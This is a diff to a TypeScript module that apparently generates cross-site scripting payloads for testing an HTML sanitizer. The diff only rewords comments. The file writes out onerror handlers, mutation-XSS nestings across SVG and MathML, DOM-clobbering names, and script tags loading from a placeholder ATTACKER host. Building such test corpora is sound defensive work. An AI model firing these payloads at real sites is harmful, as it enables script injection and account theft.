@@ -2,7 +2,7 @@ import { ATTACKER, type Trick, trick } from './payload-list.js';
 
 const words = (text: string): readonly string[] => text.trim().split(/\s+/);
 
-/** Elements that content may write, and such that it may not. */
+/** Elements that content may use, and some that it may not. */
 const ELEMENTS = words(`
   a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure footer
   h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead
@@ -13,7 +13,7 @@ const ELEMENTS = words(`
   script search select selectmenu set shadow slot source spacer strike style svg template textarea title track use video x-widget xmp
 `);
 
-/** Events that an attribute of any element may handle. */
+/** Events that attributes of any element may handle. */
 const EVENTS = words(`
   abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle begin blur bounce
   cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragenter drop end error finish focus focusin focusout formdata
@@ -23,7 +23,7 @@ const EVENTS = words(`
   toggle touchend touchmove touchstart transitionend transitionrun transitionstart unhandledrejection unload wheel
 `);
 
-/** Three events of each element; over all elements, each event more than once. */
+/** Three events per element; each event occurs on several elements. */
 function handlers(): readonly Trick[] {
   return ELEMENTS.flatMap((element, n) =>
     [0, 1, 2].map((k) => {
@@ -35,14 +35,14 @@ function handlers(): readonly Trick[] {
 
 const IMG = '<img src onerror=CALL>';
 
-/** Elements whose content is read in another way: as text, or in another namespace. */
+/** Elements whose content is parsed differently: as text, or in another namespace. */
 const READERS = words(`
   svg math svg><desc svg><title svg><foreignObject svg><style math><mtext math><mi math><annotation-xml math><annotation-xml&encoding="text/html" math><mglyph
   math><mtext><table><mglyph table select select><option template noscript noembed noframes iframe xmp textarea title style script plaintext listing form><form
   a><a details frameset button object pre p svg></p math></br ruby><rtc caption
 `);
 
-/** What a reader that is understood in two ways lets out. */
+/** Markup that escapes from an element that is parsed in two ways. */
 const INNER: readonly ((reader: string) => string)[] = [
   () => IMG,
   (reader) => `<style><img title="</style></${reader}>${IMG}">`,
@@ -60,7 +60,7 @@ function nestings(): readonly Trick[] {
   });
 }
 
-/** Markup that would send something away; a site that trusts its HTML shows the first of all payloads whole. */
+/** Markup that would send a request. On a site that trusts its HTML, only the first payload works. */
 const REQUESTS: readonly string[] = [
   '<script src="ATTACKER/CALL"></script>',
   '<svg><script href="ATTACKER/CALL" /></svg>',
@@ -146,7 +146,7 @@ const SLIPS: readonly string[] = [
   '<!-- truncate --><!-- --><img src onerror=CALL>',
 ];
 
-/** Names that hide functions and properties of the document where an element takes them. */
+/** Names that shadow functions and properties of the document if an element has them. */
 export const CLOBBERED: readonly string[] = words(`
   body head forms images scripts cookie title location defaultView documentElement getElementById querySelector querySelectorAll
   createElement importNode addEventListener dispatchEvent adoptedStyleSheets implementation
@@ -162,7 +162,7 @@ function clobbering(): readonly Trick[] {
   ]);
 }
 
-/** Raw HTML that would run, each of it a block or a part of a line. */
+/** Raw HTML that would run, as a block or within a line. */
 export function htmlTricks(): readonly Trick[] {
   const written = (texts: readonly string[]): Trick[] =>
     texts.map((text) => trick(text.replaceAll('ATTACKER', ATTACKER)));
